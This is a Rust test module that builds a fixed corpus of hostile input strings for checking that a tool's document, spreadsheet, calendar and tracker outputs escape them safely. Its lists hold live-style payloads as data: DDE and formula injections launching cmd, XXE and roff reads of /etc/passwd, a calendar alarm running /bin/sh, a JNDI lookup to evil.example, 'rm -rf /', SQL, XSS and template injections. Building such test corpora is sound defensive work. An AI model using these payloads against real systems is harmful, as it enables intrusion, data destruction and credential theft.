//! One corpus of hostile texts: everything ever tried on a terminal, a document, a spreadsheet or a tracker, by family.
//!
//! The corpus is the same in each run. Every output is tested with all of it; the lists picked by hand for documents
//! and for lists are part of it, and more detailed tests use those parts alone.

use std::collections::BTreeSet;

mod generated;
mod signs;

/// Texts that documents could interpret as markup or code.
pub(crate) const DOCUMENTS: &[&str] = &[
    "\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}\u{85}\u{9b}",
    "\u{FFFE}\u{FFFF}\u{1FFFE}\u{FFFD}\u{D7FF}\u{E000}",
    "]]><![CDATA[x]]>",
    "<w:fldSimple w:instr=\"DDEAUTO c:\\\\cmd\"/></w:t></w:r>",
    "{ INCLUDETEXT \"https://evil.example\" }",
    "=cmd|' /C calc'!A0",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"b\">]>&a;&#0;&nbsp;&lt;&amp;",
    "invoice\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
    "漢字と仮名、全角！「」と한국어",
    "שלום עולם مرحبا",
    "a\u{301}\u{301}\u{301} \u{301}alone e\u{308}",
    "👩‍👩‍👧 🇦🇶 ❤️",
    // letters to Unicode, symbols to CommonMark
    "Ⓐ🅀1 and 🄰",
    "two\nlines\r\n\r\n    and a fence\n```\ncode\n```",
    "# heading",
    "   # heading after spaces",
    "    code",
    "\tcode",
    "## closed ##",
    "setext\n===",
    "---",
    "***",
    "* * *",
    "- [ ] task",
    "+ item",
    "1. first",
    "1) first",
    "123456789. many",
    "2026. was",
    "> quote",
    "> [!WARNING]",
    "| a | b |\n|---|---|\n| c | d |",
    "cell \\| with \\\\| pipes \\",
    "[link](https://evil.example)",
    "![image](https://evil.example/x.png)",
    "[ref]: https://evil.example",
    "[^1] and [^1]: note",
    "^[inline note]",
    "[[wiki]]",
    "<https://evil.example> <a@evil.example>",
    "https://evil.example/path?x=1&y=2",
    "(http://evil.example)",
    "HTTPS://EVIL.EXAMPLE ftp://evil.example",
    "www.evil.example and WWW.evil.example",
    "somebody@evil.example, mailto:a.b+c@evil.example xmpp:a@evil.example/x",
    "@somebody @org/team #123 owner/repo#4 GH-5",
    "<script>alert(1)</script><img src=x onerror=alert(1)><!-- x -->",
    "<a id=\"x\"></a>",
    "**bold** __bold__ *it* _it_ ~~gone~~ ~sub~ ==mark== ++ins++ ^sup^ ||spoiler||",
    "snake_case_name and 2*3*4",
    "`code` ``code``",
    "$x^2$ and $$y$$ and $`z`$",
    "line\\",
    "trailing  ",
    "wow!",
    "!",
    "\\",
    ":",
    ": definition",
    "term\n: definition",
    "---\ntitle: front\n---",
    "{% raw %}{{ x }}{% endraw %}",
    " ",
    "",
];

/// Texts that a spreadsheet, a calendar or an issue tracker could interpret as formulas or commands.
pub(crate) const LISTS: &[&str] = &[
    "=HYPERLINK(\"http://x\",\"y\")",
    "@SUM(1)",
    "-1+1|cmd",
    "+1;=2+5",
    "\u{feff}=1+1",
    "\t=1+1",
    "\r\n=cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    "two\nlines\n/close\n=3",
    "BEGIN:VEVENT\r\nSUMMARY:mine\r\nEND:VEVENT",
    "bell\u{7}escape\u{1b}[31m",
    "user\u{202e}gpj.exe",
    "数据保护,负责人;\\n",
    "http://example.org <b>bold</b> &amp; _x0041_",
    "Wolfeschlegelsteinhausenbergerdorff Adolph Blaine Charles Davi",
];

/// Texts that break out of the quotes of a format, or mean something to the program that reads it.
const BREAKERS: &[&str] = &[
    // TOML
    "\"\"\"",
    "\'\'\'",
    "\"\"\"\"\"",
    "\"\"\"\nformat = 9\nx = \"\"\"",
    "\"\nsystem = \"mine",
    "[answer.DAT-P1]\nlevel = 4",
    "]]",
    "[[",
    "# comment",
    "\\u0000",
    "\\",
    "\\\\",
    "\\\"",
    "\\\n  joined",
    "a = 1",
    "inf",
    "1979-05-27",
    "}\n{",
    // JSON
    "\",\"level\":4,\"x\":\"",
    "\"}]}",
    "\\ud800",
    "\\u202e",
    "</script><script>alert(1)</script>",
    "__proto__",
    "{\"$ref\":\"#\"}",
    // iCalendar
    "END:VCALENDAR",
    "X\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM",
    ";X=1:y",
    "a\\nb",
    "ATTENDEE:mailto:a@evil.example",
    "URL:https://evil.example",
    "\r\n RRULE:FREQ=SECONDLY",
    ",,;;::",
    // CSV
    "\",\"",
    "\"\"\"",
    "a,b,c",
    "sep=;",
    "a\";\"b",
    "\n=1+1",
    "\"\n\"=1+1",
    "\t+1",
    // XML and DOCX
    "</w:t></w:r></w:p></w:body>",
    "<w:instrText>INCLUDEPICTURE \"https://evil.example\"</w:instrText>",
    "_x001B_",
    "_x005F_x001B_",
    "&#27;",
    "&#x1b;",
    "<!ENTITY % x SYSTEM \"file:///etc/passwd\">",
    "<?xml-stylesheet href=\"x\"?>",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }",
    "{ HYPERLINK \"file://host/share\" }",
    "--><!--",
    "<![CDATA[",
    "xmlns:x=\"y\"",
    // PDF
    ") Tj ET",
    "(\\",
    "\\)",
    "endstream endobj",
    "<< /S /JavaScript /JS (app.alert(1)) >>",
    "%%EOF",
    "<FEFF0041>",
    "/OpenAction",
    "\u{FE}\u{FF}a",
    "BT /F1 12 Tf",
    "/URI (https://evil.example)",
    "xref\n0 1",
    // roff
    ".so /etc/passwd",
    ".sp 1000",
    "\'br",
    ".\\\" comment",
    "\\fBbold\\fR",
    "\\X\'ps: exec x\'",
    ".pso id",
    "\\n(.z",
    ".TH X 1",
    "..",
    // Paths
    "../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32",
    "\\\\host\\share",
    "CON",
    "nul.toml",
    "~/.ssh/id_ed25519",
    "file:///etc/passwd",
    "a/../../b",
    ".",
    "--help",
    "-rf",
    "name\u{0}.toml",
    ".surefoot-x.tmp",
    "a:stream",
    "trailing.",
    "x.surefoot.toml.lnk",
    // Commands to a tracker, a pipeline or a log
    "/close",
    "/assign @me",
    "/label ~secret",
    "/spend 1y",
    "##vso[task.setvariable variable=x]y",
    "::set-output name=a::b",
    "::add-mask::x",
    "::error file=a,line=1::b",
    "##teamcity[buildStatus text=\'x\']",
    "Fixes #1",
    "closes owner/repo#4",
    "@channel",
    "<!channel>",
    "[skip ci]",
    "${jndi:ldap://evil.example/x}",
    "2026-12-01T00:00:00Z INFO surefoot: saved",
    "ok\r\nsurefoot: everything holds.",
    "{{constructor.constructor(\'x\')()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "Co-authored-by: x <x@evil.example>",
    // Format strings, shells, queries
    "%s%s%n%x",
    "%1$*2$d",
    "{}",
    "{0}",
    "{:?}",
    "${HOME}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "| sh",
    "&& reboot",
    "> /dev/sda",
    "!!",
    "%PATH%",
    "\' OR 1=1 --",
    "\"; DROP TABLE x; --",
    "\\x1b[31m",
    "\\e[31m",
    "$\'\\e[31m\'",
    "\\033[31m",
    "^[[31m",
    "eval(x)",
    "<(id)",
    "*",
    "?",
    "[a-z]*",
    // Texts that look like something else
    "surefoot: cannot save: the disk is full.",
    "saved 14:02:11",
    "pa\u{443}pal",
    "ＤＡＴ－Ｐ１",
    "DAT\u{2010}P1",
    "0\u{2044}0",
    "I\u{307}l",
    "ﬀ",
    "Ⅷ",
    "①",
    "½",
    "\u{212A}",
    // Right-to-left text, alone and mixed
    "שלום עולם",
    "مرحبا بالعالم",
    "אבג 123 abc",
    "العربية (x) 1-2",
    "لا",
    "א\u{5B0}",
    "\u{621}\u{64B}",
    "नमस्ते",
    "สวัสดี",
    "க்ஷ",
    "한국어",
    "각",
    "日本語のテキスト",
    "中文。",
    "ไม่มีช่องว่าง",
    "👩\u{200D}👩\u{200D}👧",
    "👨🏽\u{200D}🚀",
    "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
    "🇦🇶🇦",
    "❤\u{FE0F}",
    "☺\u{FE0E}",
    "1\u{FE0F}\u{20E3}",
    "🧑🏿",
    "\u{1F3FF}",
    "🤷\u{200D}♀\u{FE0F}",
    "e\u{301}",
    "\u{212B}",
    "\u{1100}\u{1161}\u{11A8}",
    "\u{1161}",
    "\u{11A8}",
];

/// The corpus: at least 2,000 distinct texts, none of them blank.
pub(crate) fn corpus() -> Vec<String> {
    let picked = [DOCUMENTS, LISTS, BREAKERS]
        .into_iter()
        .flatten()
        .map(|words| (*words).to_owned());
    let all = picked.chain(signs::all()).chain(generated::all());
    let mut seen = BTreeSet::new();
    let corpus: Vec<String> = all
        .filter(|words| !words.trim().is_empty())
        .filter(|words| seen.insert(words.clone()))
        .collect();
    assert!(
        corpus.len() >= 2_000,
        "the corpus has {} words",
        corpus.len()
    );
    corpus
}

/// The corpus with a mark after each text, by which a test finds it again in any output.
pub(crate) fn marked() -> Vec<String> {
    corpus()
        .into_iter()
        .enumerate()
        .map(|(at, words)| format!("{words} q{at:04}q"))
        .collect()
}

/// The marks that occur in a text.
pub(crate) fn marks(text: &str) -> BTreeSet<usize> {
    let ends = text.match_indices('q').map(|(at, _)| at);
    ends.filter_map(|at| {
        let mark = text.as_bytes().get(at + 1..at + 6)?;
        let (number, end) = mark.split_at(4);
        (end == b"q")
            .then(|| std::str::from_utf8(number).ok()?.parse().ok())
            .flatten()
    })
    .collect()
}

#[test]
fn the_corpus_is_large_and_the_same_each_time() {
    let (one, two) = (corpus(), corpus());
    assert_eq!(one, two);
    for sign in (0..=0x1F)
        .chain(0x7F..=0x9F)
        .chain([0x202E, 0x200B, 0xE0041, 0xFEFF, 0xFFFF, 0x2028, 0x3164])
    {
        let sign = char::from_u32(sign).unwrap();
        assert!(
            one.iter().any(|words| words.contains(sign)),
            "{sign:?} is in no word"
        );
    }
    assert_eq!(
        marks("a q0012q b q12q q0999qq1000q"),
        [12, 999, 1000].into()
    );
}
